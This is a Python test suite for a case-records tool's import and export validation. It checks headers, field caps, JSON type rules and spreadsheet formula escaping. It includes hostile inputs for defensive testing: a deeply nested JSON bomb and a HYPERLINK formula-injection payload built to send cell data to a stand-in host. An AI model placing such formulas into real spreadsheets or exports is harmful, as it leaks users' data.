"""Fault suite, imports and exports: JSON held to CSV's rules, headers checked, formula-safe.

Each refused import names the row and the column in a sentence, exits 2 and leaves the data
directory byte for byte as it was (the import is one transaction).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from repatriation.services.tabular import append_xlsx_row, csv_bytes, safe_cell
from tests.cli_kit import Desk, demo_desk
from tests.integration.fault_kit import copy_desk, refused, run_as, snapshot

HEADER = "family_name,given_name,sex,date_of_birth,channel,corridor,received_on,province_old"
GOOD = {"family_name": "Hoàng", "given_name": "Hoa", "sex": "F", "date_of_birth": "2011-04-02",
        "channel": "rescue", "corridor": "CN", "received_on": "2026-01-10"}


pytestmark = pytest.mark.xdist_group("faults-import")  # one seeded desk per module


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    return demo_desk(tmp_path_factory.mktemp("seed") / "desk", cases=5)


@pytest.fixture
def desk(seeded: Desk, tmp_path: Path) -> Desk:
    return copy_desk(seeded, tmp_path / "desk")


def _refused_import(desk: Desk, source: Path, sentence: str) -> None:
    before = snapshot(desk.data, source)
    refused(run_as(desk, "cases", "import", str(source)), sentence)
    assert snapshot(desk.data, source) == before


@pytest.mark.parametrize(("header", "sentence"), [
    ("family_name,given_name,family_name", "Row 1, column 'family_name': the column appears twice."),
    ("family_name,nickname", "Row 1, column 'nickname': unknown column."),
])
def test_csv_headers_are_checked(desk: Desk, tmp_path: Path, header: str, sentence: str) -> None:
    source = tmp_path / "cases.csv"
    source.write_text(header + "\nA,B,C\n", encoding="utf-8")
    _refused_import(desk, source, sentence + " Nothing was imported.")


def test_csv_field_cap_names_the_row_and_the_column(desk: Desk, tmp_path: Path) -> None:
    source = tmp_path / "cases.csv"
    rows = [HEADER, "A,B,F,2011-04-02,rescue,CN,2026-01-10,",
            '"multi\nline",B,F,2011-04-02,rescue,CN,2026-01-10,',
            f"A,{'x' * 200_000},F,2011-04-02,rescue,CN,2026-01-10,"]
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    # The record starts on line 5 (the quoted name spans lines 3 and 4).
    _refused_import(desk, source, "Row 5, column 'given_name': longer than the 131,072 characters")


@pytest.mark.parametrize(("change", "sentence"), [
    ({"received_on": 20260110}, "Row 2, column 'received_on': must be text"),
    ({"family_name": True}, "Row 2, column 'family_name': must be text"),
    ({"given_name": ["Hoa"]}, "Row 2, column 'given_name': must be text"),
    ({"family_name": "Ho\u0000ang"}, "Row 2, column 'family_name': contains a control character"),
    ({"province_old": "99"}, "Row 2, column 'province_old': unknown code ('99')"),
    ({"province_old": "N08"}, "Row 2, column 'province_old': unknown code ('N08')"),
    ({"notes": "n" * 50_000_00}, "Row 2, column 'notes': longer than the 131,072 characters"),
    ({"estimated_age": True}, "Row 2, column 'estimated_age': must be text"),
])
def test_json_is_held_to_the_rules_of_csv(
    desk: Desk, tmp_path: Path, change: dict[str, object], sentence: str
) -> None:
    source = tmp_path / "cases.json"
    source.write_text(json.dumps([GOOD, {**GOOD, **change}]), encoding="utf-8")
    _refused_import(desk, source, sentence)


def test_json_whole_number_age_and_csv_province_codes_are_accepted(desk: Desk, tmp_path: Path) -> None:
    source = tmp_path / "cases.json"
    source.write_text(json.dumps({"cases": [{**GOOD, "date_of_birth": None, "estimated_age": 12,
                                             "province_old": "02", "province_new": "N08"}]}))
    assert run_as(desk, "cases", "import", str(source))[0] == 0


@pytest.mark.parametrize(("text", "sentence"), [
    ("[" * 100_000 + "]" * 100_000, "The JSON file is nested too deeply to be read safely."),
    ('[{"family_name": "A", "family_name": "B"}]', "Row 1, column 'family_name': the column appears twice."),
    (f"[{json.dumps(GOOD)}, 3]", "Row 2, column '*': not a JSON object."),
    (f'[{json.dumps(GOOD)},\n {{"family_name": }}]', "malformed at line 2, column 18"),
    ('{"title": "x"}', "The JSON file must be a list of cases, or an object"),
    ('', "The file is empty."),
])
def test_hostile_json_is_a_sentence(desk: Desk, tmp_path: Path, text: str, sentence: str) -> None:
    source = tmp_path / "cases.json"
    source.write_text(text, encoding="utf-8")
    _refused_import(desk, source, sentence)


def test_a_name_that_is_a_formula_comes_out_as_text(desk: Desk, tmp_path: Path) -> None:
    source = tmp_path / "cases.csv"
    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'
    source.write_text(
        "family_name,given_name,channel,corridor,received_on\n"
        f'"{formula.replace(chr(34), chr(34) * 2)}",+84123,rescue,CN,2026-01-10\n', encoding="utf-8")
    assert run_as(desk, "cases", "import", str(source))[0] == 0
    code, out, _ = run_as(desk, "cases", "list", "--format", "csv",
                           "--search", "hyperlink")
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["full_name"].startswith("'=HYPERLINK(")


def test_every_formula_trigger_is_escaped_in_csv_and_xlsx(tmp_path: Path) -> None:
    cells = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1", "plain", 5, None]
    assert [safe_cell(c) for c in cells] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "'＝1", "plain", 5, None]
    text = csv_bytes([cells[:8]]).decode("utf-8-sig")
    assert all(c.startswith("'") for c in next(csv.reader(io.StringIO(text, newline="")))[:7])
    workbook = Workbook()
    append_xlsx_row(workbook.active, cells[:8])
    workbook.save(tmp_path / "t.xlsx")
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert all(c.data_type == "s" for c in sheet[1])  # text, never a formula ("f")
